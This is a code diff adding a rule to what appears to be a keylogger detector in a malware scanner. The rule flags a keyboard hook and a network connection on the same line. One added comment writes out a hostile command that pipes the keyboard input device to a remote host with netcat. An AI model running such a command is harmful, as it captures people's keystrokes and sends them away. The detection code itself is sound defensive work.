@@ -47,6 +47,12 @@ def keylogger(found: Capabilities) -> Detection | None:
         # a form skimmer (an autosave watches its own editor, not every input).
         core = (Cap.PAGE_KEYS, Cap.FIELD_VALUES, Cap.NET_SEND)
         return supported(found, 0.8, core, "every field's typed values sent away")
+    if found.has_all(Cap.KEY_HOOK, Cap.NET_CONNECT) and found.on_one_line(
+        Cap.KEY_HOOK, Cap.NET_CONNECT
+    ):
+        # `cat /dev/input/...-kbd | nc host port`: the keyboard device piped to a remote host.
+        piped = (Cap.KEY_HOOK, Cap.NET_CONNECT)
+        return supported(found, 0.8, piped, "keyboard events piped to a remote host")
     if found.has_all(Cap.KEY_HOOK, Cap.NET_CONNECT, Cap.PACKET_SEND):
         streamed = (Cap.KEY_HOOK, Cap.NET_CONNECT, Cap.PACKET_SEND)
         return supported(found, 0.8, streamed, "global keystrokes streamed to a remote host")
